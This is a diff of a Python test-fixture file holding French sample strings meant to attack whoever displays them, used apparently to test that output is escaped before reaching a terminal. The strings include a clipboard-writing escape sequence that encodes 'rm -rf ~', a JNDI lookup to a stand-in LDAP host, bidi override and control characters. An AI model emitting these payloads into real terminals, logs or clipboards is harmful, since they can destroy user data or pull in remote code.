@@ -1,4 +1,4 @@
-"""Text that attacks whoever displays it: it must arrive in the target exactly and never reach a terminal raw."""
+"""Text that attacks whoever displays it: it must arrive in the target exactly, and reach no terminal raw."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ NAMES = (
 
 CONTENTS = (
     "Le terminal affiche : \x1b[31mERREUR\x1b[0m\r\x1b[1A\x1b]52;c;cm0gLXJmIH4=\x07 et puis plus rien.",
-    "[bold red]x[/] [/] [[gras]] \\[fin] ${jndi:ldap://x.example/a} \u202eenversé\u202c \ufeff\u200b\x9b31m\x7f",
+    "[bold red]x[/] [/] [[gras]] \\[fin] ${jndi:ldap://x.example/a} \u202eenversé\u202c \ufeff\x9b31m\x7f",
 )
 
 WITH_NUL = "Le journal s'arrête net ici : « connexion\x00perdue », copié depuis le terminal."
